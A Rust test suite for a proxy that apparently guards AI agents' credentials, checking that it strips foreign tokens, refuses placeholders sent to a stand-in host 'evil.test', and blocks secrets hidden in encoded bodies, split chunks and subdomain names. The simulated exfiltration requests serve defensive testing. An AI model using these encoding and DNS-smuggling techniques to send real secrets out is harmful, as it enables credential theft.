//! What agents must not send: credentials that are not ours, placeholders where they do not belong, live secrets.

use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use http::Method;
use http_body_util::BodyExt as _;
use tempfile::TempDir;
use tokenward::rehearsal::{Call, Rehearsal};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio_rustls::server::TlsStream;

use super::kit::{
    API, Credential, House, KEYS, Origin, OwnBody, PLAIN, Setup, Svc, agent_token, ask, exchange,
    refused, speak, token_of,
};

const DROP: &str = "drop.test";

/// Two agents with the usual services; `more` are keys of the first.
async fn two(more: &str) -> House {
    let mut setup = Setup::usual();
    for (name, file) in [("coder", "coder.token"), ("writer", "writer.token")] {
        setup.write_more.push((file, agent_token(name)));
    }
    let lines = format!(
        "agents:\n  coder: {{auth: {{token: {{file: coder.token}}}}{more}}}\n  \
         writer: {{auth: {{token: {{file: writer.token}}}}}}"
    );
    setup.line(&lines).start().await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_strange_credential_is_taken_off_and_told_by_its_kind() {
    let house = two("").await;
    let long = "0123456789abcdefghijABCDEFGHIJ";
    for (name, value) in [
        ("authorization", format!("Bearer ghp_{long}")),
        ("x-api-key", format!("sk-ant-api03-{long}")),
        (
            "authorization",
            format!("Basic {}", STANDARD.encode(format!("u:glpat-{long}"))),
        ),
        ("authorization", "Bearer of nothing".into()),
    ] {
        let call = Call::get("/v1/items").field(name, &value);
        let answer = ask(&house.named("coder"), API, true, call).await;
        assert_eq!(answer.status, 200);
    }
    let call = Call::get(&format!("/v1/items?page=1&access_token=xoxb-{long}"));
    assert_eq!(
        ask(&house.named("writer"), API, true, call).await.status,
        200
    );
    let placeholder = house.variable("coder", "ITEMS_TOKEN");
    let own = Call::get("/v1/items").field("authorization", &format!("Bearer {placeholder}"));
    assert_eq!(ask(&house.named("coder"), API, true, own).await.status, 200);
    for seen in house.at_api() {
        assert!(!format!("{:?}", seen.headers).contains(long) && !seen.path.contains(long));
    }
    let metrics = house.metrics().await;
    assert!(
        metrics.contains("tokenward_security_events_total{kind=\"credential.stranger\"} 5"),
        "{metrics}"
    );
    let written = house.end().await;
    let events = written.of("credential.stranger");
    let kinds: Vec<_> = events.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["github", "anthropic", "gitlab", "slack"]);
    assert_eq!(
        (&events[3]["agent"], &events[3]["service"]),
        (&"writer".into(), &"items".into())
    );
    assert!(!written.text.contains(long));
}

/// A request in absolute form, whose destination may be anything.
async fn absolute(house: &House, agent: &str, url: &str, fields: &str) -> (u16, String) {
    let credential = STANDARD.encode(format!("{agent}:{}", agent_token(agent)));
    let host = url.split('/').nth(2).unwrap();
    let head = format!(
        "GET {url} HTTP/1.1\r\nhost: {host}\r\nproxy-authorization: Basic {credential}\r\n\
         {fields}connection: close\r\n\r\n"
    );
    let answer = speak(house.proxy(), head.as_bytes()).await;
    (answer.status(), answer.code())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_placeholder_on_its_way_to_somewhere_else_is_refused_and_told() {
    let house = two("").await;
    let (own, other) = (
        house.variable("coder", "KEYS_TOKEN"),
        house.variable("writer", "KEYS_TOKEN"),
    );
    let evil = "http://evil.test/x";
    // Nothing of ours: a host that is nobody's.
    let plain = absolute(&house, "coder", evil, "x-api-key: something-else\r\n").await;
    assert_eq!(plain, (403, "destination-denied".into()));
    let text = absolute(&house, "coder", evil, &format!("x-note: {own}\r\n")).await;
    assert_eq!(
        text,
        (403, "destination-denied".into()),
        "text is left alone"
    );
    // Its own host at the wrong port is a mistake and nothing else.
    let items = house.variable("coder", "ITEMS_TOKEN");
    let coder = STANDARD.encode(format!("coder:{}", agent_token("coder")));
    let connect = format!(
        "CONNECT {API}:8443 HTTP/1.1\r\nhost: {API}:8443\r\nproxy-authorization: Basic {coder}\r\n\
         authorization: Bearer {items}\r\nconnection: close\r\n\r\n"
    );
    let lost = speak(house.proxy(), connect.as_bytes()).await;
    assert_eq!(
        (lost.status(), lost.code().as_str()),
        (403, "destination-denied")
    );
    let mismatch = (403, "placeholder-mismatch".to_owned());
    for fields in [
        format!("authorization: Bearer {own}\r\n"),
        format!("x-api-key: {other}\r\n"),
        format!(
            "authorization: Basic {}\r\n",
            STANDARD.encode(format!("git:{own}"))
        ),
    ] {
        assert_eq!(
            absolute(&house, "coder", evil, &fields).await,
            mismatch,
            "{fields}"
        );
    }
    let query = format!("{evil}?api_key={own}");
    assert_eq!(absolute(&house, "coder", &query, "").await, mismatch);
    // At a service, but not its own; and on a path that no rule allows.
    let call = |target: &str| Call::get(target).field("authorization", &format!("Bearer {own}"));
    let coder = house.named("coder");
    refused(
        &ask(&coder, PLAIN, true, call("/v1/x")).await,
        403,
        "placeholder-mismatch",
    );
    let denied = "/v1/items/1/secrets";
    refused(
        &ask(&coder, API, true, call(denied)).await,
        403,
        "placeholder-mismatch",
    );
    let right = Call::get(denied).field("authorization", &format!("Bearer {items}"));
    refused(&ask(&coder, API, true, right).await, 403, "policy-denied");
    // The agent goes on: nobody wanted it stopped.
    assert_eq!(
        ask(&coder, KEYS, true, Call::get("/v1/items")).await.status,
        200
    );
    let written = house.end().await;
    let events = written.of("placeholder.misused");
    assert_eq!(events.len(), 6, "{}", written.text);
    assert!(
        events[..4]
            .iter()
            .all(|e| e["host"] == "evil.test" && e.get("service").is_none())
    );
    assert_eq!(
        (&events[4]["service"], &events[5]["service"]),
        (&"plain".into(), &"items".into())
    );
    assert!(
        events
            .iter()
            .all(|e| e["agent"] == "coder" && e["action"] == "deny")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_that_misuses_a_placeholder_can_be_stopped() {
    let house = two(", placeholder_misuse: revoke").await;
    let (coder, writer) = (house.named("coder"), house.named("writer"));
    for agent in [&coder, &writer] {
        assert_eq!(
            ask(agent, API, true, Call::get("/v1/items")).await.status,
            200
        );
    }
    let stolen = format!(
        "authorization: Bearer {}\r\n",
        house.variable("coder", "ITEMS_TOKEN")
    );
    for agent in ["writer", "coder", "coder"] {
        let answer = absolute(&house, agent, "http://evil.test/", &stolen).await;
        assert_eq!(answer, (403, "placeholder-mismatch".into()));
    }
    for host in [API, KEYS] {
        let answer = ask(&coder, host, true, Call::get("/v1/items")).await;
        refused(&answer, 403, "service-revoked");
        let answer = ask(&writer, host, true, Call::get("/v1/items")).await;
        assert_eq!(answer.status, 200, "it is another agent's setting");
    }
    let written = house.end().await;
    let actions: Vec<_> = written
        .of("placeholder.misused")
        .iter()
        .map(|e| e["action"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(actions, ["deny", "revoke", "revoke"]);
    let revoked = written.of("access.revoked");
    assert_eq!(revoked.len(), 1, "{}", written.text);
    assert_eq!(revoked[0]["agent"], "coder");
}

/// Everything that a foreign host was sent.
#[derive(Clone, Default)]
struct Hoard(Arc<Mutex<Vec<u8>>>);

impl Hoard {
    fn take(&self) -> Vec<u8> {
        std::mem::take(&mut self.0.lock().unwrap())
    }
}

async fn hoard(mut stream: TlsStream<TcpStream>, into: Hoard) {
    let mut buffer = vec![0; 64 * 1024];
    let mut seen = Vec::new();
    while let Ok(many @ 1..) = stream.read(&mut buffer).await {
        seen.extend_from_slice(&buffer[..many]);
        into.0.lock().unwrap().extend_from_slice(&buffer[..many]);
        let whole = seen.ends_with(b"END") || seen.ends_with(b"0\r\n\r\n");
        if whole || (seen.starts_with(b"GET") && seen.ends_with(b"\r\n\r\n")) {
            let answer = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok";
            stream.write_all(answer).await.ok();
            stream.shutdown().await.ok();
            return;
        }
    }
}

/// A house with a token in use, a static key that nobody used, and a foreign host that is searched for both.
async fn guarded(line: &str) -> (House, Hoard) {
    let hoarded = Hoard::default();
    let rehearsal = Rehearsal::start(tokenward::rehearsal::Options::default())
        .await
        .unwrap();
    let folder = TempDir::new().unwrap();
    let into = hoarded.clone();
    let origin = Origin::raw(DROP, &["http/1.1"], move |stream| {
        hoard(stream, into.clone())
    });
    let origin = origin.await;
    let drop = Svc {
        name: "drop",
        host: DROP.into(),
        credential: Credential::Nothing,
        rules: vec![r#"{allow: "* /**"}"#.into()],
        more: vec![line.into()],
        upstream: Some(origin.upstream(folder.path())),
    };
    let setup = Setup::of([Svc::items(), Svc::keys(), drop]);
    let house = setup.start_in(folder, rehearsal).await;
    assert_eq!(house.get("/v1/items").await.status, 200);
    (house, hoarded)
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_live_secret_goes_nowhere() {
    let (house, hoarded) = guarded("request_guard: block").await;
    let token = token_of(&house.at_api()[0]).to_owned();
    let key = house.rehearsal.api_key().to_owned();
    let forms = |secret: &str| {
        [
            secret.to_owned(),
            STANDARD.encode(format!("a:{secret}")),
            URL_SAFE_NO_PAD.encode(secret),
            percent(secret),
        ]
    };
    let mut refusals = 0;
    for secret in [&token, &key] {
        for form in forms(secret) {
            let clean = form.trim_end_matches('=').replace(['+', '/'], "-");
            let body = format!("{{\"note\": \"{form}\"}}END");
            let large = format!("{}{form} and so on END", "x".repeat(100_000));
            let mut calls = vec![
                Call::get("/x").field("x-note", &format!("see {form}")),
                Call::get("/x").field("authorization", &format!("Bearer {form}")),
                Call::new(Method::POST, "/x").bytes(body),
                Call::new(Method::POST, "/x").bytes(large),
            ];
            if clean.len() < 2000 {
                calls.push(Call::get(&format!("/x?q={}", percent(&form))));
                calls.push(Call::get(&format!("/up/{clean}/x")));
            }
            // The path's form must be one that a path can hold.
            if clean != form.trim_end_matches('=') || form.contains('%') {
                calls.pop();
            }
            for call in calls {
                let answer = ask(&house.agent(), DROP, false, call).await;
                refused(&answer, 403, "secret-in-request");
                refusals += 1;
                let sent = String::from_utf8_lossy(&hoarded.take()).into_owned();
                assert!(!sent.contains(form.trim_end_matches('=')), "{sent}");
            }
        }
    }
    let metrics = house.metrics().await;
    let count = format!("tokenward_security_events_total{{kind=\"secret.in_request\"}} {refusals}");
    assert!(metrics.contains(&count), "{refusals}: {metrics}");
    let written = house.end().await;
    let events = written.of("secret.in_request");
    assert_eq!(events.len(), 10, "ten lines a minute and then a number");
    assert_eq!(
        (&events[0]["service"], &events[0]["place"]),
        (&"drop".into(), &"header".into())
    );
    assert!(!written.text.contains(&key) && !written.text.contains(&token));
}

fn chunk(text: &[u8]) -> Vec<u8> {
    [format!("{:x}\r\n", text.len()).as_bytes(), text, b"\r\n"].concat()
}

const CHUNKED: &str = "POST /x HTTP/1.1\r\nhost: drop.test\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n";

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_is_found_across_every_edge_of_a_body() {
    let (house, hoarded) = guarded("request_guard: block").await;
    let key = house.rehearsal.api_key().to_owned();
    for cut in 1..key.len() {
        let (a, b) = key.as_bytes().split_at(cut);
        let mut tls = house.inside(DROP).await;
        tls.write_all(CHUNKED.as_bytes()).await.unwrap();
        tls.write_all(&chunk(&[b"before ", a].concat()))
            .await
            .unwrap();
        tls.flush().await.unwrap();
        let rest = [chunk(b), chunk(b" after"), b"0\r\n\r\n".to_vec()].concat();
        let answer = exchange(tls, &rest).await;
        let sent = String::from_utf8_lossy(&hoarded.take()).into_owned();
        assert_eq!(
            answer.code(),
            "secret-in-request",
            "{cut}: {}",
            answer.text()
        );
        // What has gone is never all of it: no more than the three letters that nobody waits for.
        assert!(!sent.contains(&key[..key.len().min(8)]), "{cut}: {sent}");
    }
    house.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_secret_passes_as_it_is() {
    let (house, hoarded) = guarded("request_guard: block").await;
    let key = house.rehearsal.api_key().to_owned();
    let near = format!("{}!", &key[..key.len() - 1]);
    let placeholder = house.variable("default", "KEYS_TOKEN");
    let prompt = format!(
        "my {placeholder} and {near}, 100% &amp; \\u0041 {}",
        STANDARD.encode(&near)
    );
    let text = format!("{} {near}", format!("{prompt}\n").repeat(2000));
    for body in [format!("{prompt}END"), format!("{text}END")] {
        let call = Call::new(Method::POST, "/x").bytes(body.clone());
        assert_eq!(ask(&house.agent(), DROP, false, call).await.status, 200);
        let sent = hoarded.take();
        assert!(sent.ends_with(body.as_bytes()), "bit by bit");
    }
    // A body that ends with the beginning of one waits for no more than its end.
    let tls = house.inside(DROP).await;
    let begun = &key.as_bytes()[..key.len() - 2];
    let bytes = [CHUNKED.as_bytes(), &chunk(begun), b"0\r\n\r\n"].concat();
    assert_eq!(exchange(tls, &bytes).await.status(), 200);
    let sent = String::from_utf8_lossy(&hoarded.take()).into_owned();
    let letters: String = sent.chars().filter(|c| c.is_ascii_graphic()).collect();
    assert!(
        letters.contains(&String::from_utf8_lossy(&begun[3..]).into_owned()),
        "{sent}"
    );
    let events = house.end().await.of("secret.in_request");
    assert!(events.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn without_the_guard_nobody_looks() {
    let (house, hoarded) = guarded("max_stream_age: 60s").await;
    let body = format!("{}END", house.rehearsal.api_key());
    let call = Call::new(Method::POST, "/x").bytes(body.clone());
    assert_eq!(ask(&house.agent(), DROP, false, call).await.status, 200);
    assert!(hoarded.take().ends_with(body.as_bytes()));
    house.end().await;
}

fn empty() -> OwnBody {
    let never = |e: std::convert::Infallible| match e {};
    http_body_util::Empty::new().map_err(never).boxed_unsync()
}

#[tokio::test(flavor = "multi_thread")]
async fn on_http2_the_stream_is_reset_and_the_connection_goes_on() {
    let sent = Arc::new(Mutex::new(Vec::new()));
    let into = sent.clone();
    let rehearsal = Rehearsal::start(tokenward::rehearsal::Options::default())
        .await
        .unwrap();
    let folder = TempDir::new().unwrap();
    let origin = Origin::http2(DROP, move |request| {
        let into = into.clone();
        async move {
            let mut body = request.into_body();
            while let Some(Ok(frame)) = body.frame().await {
                if let Ok(data) = frame.into_data() {
                    into.lock().unwrap().extend_from_slice(&data);
                }
            }
            http::Response::new(empty())
        }
    });
    let origin = origin.await;
    let drop = Svc {
        name: "drop",
        host: DROP.into(),
        credential: Credential::Nothing,
        rules: vec![r#"{allow: "* /**"}"#.into()],
        more: vec!["request_guard: block".into()],
        upstream: Some(origin.upstream(folder.path())),
    };
    let setup = Setup::of([Svc::keys(), drop]);
    let house = setup.start_in(folder, rehearsal).await;
    let key = house.rehearsal.api_key().to_owned();
    let agent = house.agent();
    for round in 0..3 {
        let body = format!("{}{key}{}", "y".repeat(150_000), "z".repeat(150_000));
        let call = Call::new(Method::POST, "/x").bytes(body);
        refused(
            &ask(&agent, DROP, true, call).await,
            403,
            "secret-in-request",
        );
        let call = Call::new(Method::POST, "/x").bytes("harmless ".repeat(20_000));
        assert_eq!(ask(&agent, DROP, true, call).await.status, 200, "{round}");
    }
    let sent = String::from_utf8_lossy(&sent.lock().unwrap()).into_owned();
    assert!(!sent.contains(&key) && !sent.contains('z') && sent.contains("harmless"));
    house.end().await;
}

/// Below a wildcard an agent thinks up the name, and whoever answers for the domain reads it.
#[tokio::test(flavor = "multi_thread")]
async fn a_secret_is_no_hosts_name() {
    let rehearsal = Rehearsal::start(tokenward::rehearsal::Options::default())
        .await
        .unwrap();
    let folder = TempDir::new().unwrap();
    let hoarded = Hoard::default();
    let into = hoarded.clone();
    let origin = Origin::raw("*.drop.test", &["http/1.1"], move |stream| {
        hoard(stream, into.clone())
    });
    let origin = origin.await;
    let drop = Svc {
        name: "drop",
        host: "**.drop.test".into(),
        credential: Credential::Nothing,
        rules: vec![r#"{allow: "* /**"}"#.into()],
        more: vec!["request_guard: block".into()],
        upstream: Some(origin.upstream(folder.path())),
    };
    let setup = Setup::of([Svc::keys(), drop]);
    let house = setup.start_in(folder, rehearsal).await;
    let key = house.rehearsal.api_key().to_owned();
    // No part of a name begins or ends with a hyphen.
    let fits = |at: &usize| !key[at - 1..=*at].contains('-');
    let (a, b) = key.split_at((6..key.len()).find(fits).unwrap());
    let hex: String = key.bytes().map(|b| format!("{b:02x}")).collect();
    let (c, d) = hex.split_at(40);
    let names = [
        format!("x{key}x"),
        format!("x{key}x").to_ascii_uppercase(),
        format!("x{a}.{b}x"),
        format!("{c}.{d}"),
    ];
    for name in names {
        let host = format!("{name}.drop.test");
        for h2 in [false, true] {
            let call = Call::get("/x");
            let answer = ask(&house.agent(), &host, h2, call).await;
            refused(&answer, 403, "secret-in-request");
        }
        assert!(hoarded.take().is_empty(), "{host}");
    }
    let near = format!("x{}x.drop.test", &key[..key.len() - 1]);
    let near = ask(&house.agent(), &near, false, Call::get("/x")).await;
    assert_eq!(near.status, 200);
    let written = house.end().await;
    let events = written.of("secret.in_request");
    assert_eq!((events.len(), &events[0]["place"]), (8, &"host".into()));
    let text = written.text.to_ascii_lowercase();
    for secret in [&key, b, c, d] {
        assert!(!text.contains(&secret.to_ascii_lowercase()), "{secret}");
    }
    assert_eq!(written.requests()[0]["host"], "redacted");
}
